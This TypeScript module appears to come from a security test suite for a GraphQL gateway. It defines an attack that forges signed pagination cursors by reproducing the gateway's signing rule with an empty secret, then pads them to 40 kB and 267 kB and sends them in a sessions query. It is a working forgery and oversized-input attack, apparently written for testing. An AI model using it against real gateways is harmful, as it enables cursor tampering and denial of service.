import { createHash, createHmac } from 'node:crypto';
import { type Attack, inTurn, many } from '../attack.ts';

const QUERY = `query ($after: String) { sessions(first: 200, after: $after, filter: { userName: "unknown" }) {
  nodes { id } incomplete sources { status } pageInfo { endCursor } } }`;

/** The list of this query, as cursors know it. */
const LIST = JSON.stringify(['sessions', { userName: 'unknown', includeHistory: false }]);

/** A cursor as the gateway made them when no secret was set: by a rule that is public. */
function forged(length: number, interval: (index: number) => unknown[]): string {
  let token = '';
  for (let count = length / 40; Buffer.byteLength(token) * (4 / 3) < length; count *= 1.1) {
    token = JSON.stringify([0, ...many(Math.ceil(count), interval)]);
  }
  const encoded = Buffer.from(token).toString('base64url');
  const key = createHmac('sha256', '').update(`${LIST}\n${encoded}`).digest('base64url');
  const tag = createHash('sha256').update(`${key}.0`).digest('base64url').slice(0, 16);
  return `${encoded}.0.${tag}`;
}

const RANGES: readonly ((index: number) => unknown[])[] = [
  (index) => [[`k${index}`], null, null, 0],
  (index) => [[], [`k${index}`], null, 0],
  () => [[], null, null, 0],
  (index) => [['APPSTREAM', String(index)], ['WORKSPACES'], 'x', index],
];

const attack = (length: number, quick: boolean): Attack => ({
  line: 'B4',
  what: `forged cursors of ${length / 1_000} kB`,
  quick,
  run: (stage) =>
    inTurn(RANGES.map((range) => () => stage.ask(QUERY, { variables: { after: forged(length, range) } }))),
});

export const CURSORS: readonly Attack[] = [attack(40_000, true), attack(267_000, false)];
